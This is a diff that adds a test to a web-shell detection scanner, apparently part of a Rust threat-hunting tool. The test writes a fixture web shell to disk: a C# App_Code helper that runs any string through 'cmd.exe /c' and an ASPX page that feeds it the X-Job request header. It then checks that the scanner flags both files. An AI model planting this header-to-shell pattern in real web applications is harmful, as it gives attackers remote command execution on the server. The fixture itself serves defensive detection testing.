@@ -191,3 +191,39 @@ fn a_large_log_read_in_pieces_gives_exactly_what_one_pass_gives() {
         assert!(text_line.contains("/ecp/y.js"), "line {line} is {text_line:?}");
     }
 }
+
+#[test]
+fn a_web_root_with_a_page_and_the_app_code_helper_it_runs_gives_both_files() {
+    let rules = RuleSet::embedded().expect("rules");
+    let dir = tempfile::tempdir().expect("dir");
+    let app_code = dir.path().join("site/App_Code");
+    std::fs::create_dir_all(&app_code).expect("dir");
+    std::fs::create_dir_all(dir.path().join("site/admin")).expect("dir");
+    std::fs::write(
+        app_code.join("Jobs.cs"),
+        "using System;\nusing System.Diagnostics;\npublic static class Jobs\n{\n    public static string Run(string job)\n    {\n        \
+         var p = Process.Start(new ProcessStartInfo(\"cmd.exe\", \"/c \" + job) { RedirectStandardOutput = true, UseShellExecute = false });\n        \
+         return p.StandardOutput.ReadToEnd();\n    }\n}\n",
+    )
+    .expect("write");
+    std::fs::write(
+        dir.path().join("site/admin/Jobs.aspx"),
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n    \
+         Response.Write(Jobs.Run(Request.Headers[\"X-Job\"]));\n}\n</script>\n",
+    )
+    .expect("write");
+    let kb = seawall_kb::KnowledgeBase::embedded().expect("kb");
+    let (files, _) =
+        seawall_webshell::WebshellScanner::new(&seawall_webshell::ScannerConfig::default(), &kb).expect("scanner");
+    let extras = seawall_hunt::Extras { files: Some(&files), ..seawall_hunt::Extras::default() };
+    let result = seawall_hunt::hunt_with(&options(vec![dir.path().to_owned()], 2), &rules, &extras);
+    let located = |id: &str, file: &str| {
+        result.findings.iter().any(|f| {
+            f.rule.id == id
+                && matches!(&f.location, seawall_model::Location::File { path, .. } if path.ends_with(file))
+                && f.severity >= seawall_model::Severity::High
+        })
+    };
+    assert!(located("SW-WEBSHELL-CAPABILITIES", "Jobs.aspx"), "{:?}", ids(&result));
+    assert!(located("SW-WEBSHELL-HELPER", "Jobs.cs"), "{:?}", ids(&result));
+}
